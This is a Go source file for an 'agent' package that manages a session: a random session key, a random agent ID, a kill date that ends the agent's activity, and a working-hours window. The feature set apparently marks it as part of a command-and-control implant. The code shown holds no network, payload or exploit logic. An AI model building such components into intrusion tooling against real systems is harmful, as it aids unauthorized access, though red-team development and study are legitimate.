package agent

import (
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"sync"
	"time"
)

const SessionKeySize = 16

// Session is the process-lifetime identity of the agent. It is created once at
// startup and shared by reference with every component that needs it.
type Session struct {
	key         [SessionKeySize]byte
	agentID     uint32
	killDate    uint32
	workingTime uint32

	mu     sync.RWMutex
	active bool
	now    func() time.Time
}

// NewSession generates the session key. killDate is a unix timestamp (0 for
// none) and workingTime a packed window from PackWorkingTime (0 for none).
func NewSession(agentID, killDate, workingTime uint32) (*Session, error) {
	s := &Session{
		agentID:     agentID,
		killDate:    killDate,
		workingTime: workingTime,
		active:      true,
		now:         time.Now,
	}
	if _, err := rand.Read(s.key[:]); err != nil {
		return nil, fmt.Errorf("failed to generate session key: %w", err)
	}
	return s, nil
}

// RandomAgentID returns a random non-zero 32-bit agent id.
func RandomAgentID() (uint32, error) {
	b := make([]byte, 4)
	for {
		if _, err := rand.Read(b); err != nil {
			return 0, fmt.Errorf("failed to generate agent id: %w", err)
		}
		if id := binary.BigEndian.Uint32(b); id != 0 {
			return id, nil
		}
	}
}

func (s *Session) Key() []byte {
	k := s.key
	return k[:]
}

func (s *Session) AgentID() uint32     { return s.agentID }
func (s *Session) KillDate() uint32    { return s.killDate }
func (s *Session) WorkingTime() uint32 { return s.workingTime }

func (s *Session) SetActive(active bool) {
	s.mu.Lock()
	s.active = active
	s.mu.Unlock()
}

// IsActive reports whether the agent may keep running. A reached kill date
// overrides the active flag.
func (s *Session) IsActive() bool {
	s.mu.RLock()
	active := s.active
	s.mu.RUnlock()

	if !active {
		return false
	}
	if s.killDate == 0 {
		return true
	}
	return s.now().Unix() < int64(s.killDate)
}

// WorkingSleep is the time left until the working window reopens, or zero
// when the agent is inside the window or none is configured.
func (s *Session) WorkingSleep() time.Duration {
	return WorkingSleep(s.workingTime, s.now())
}
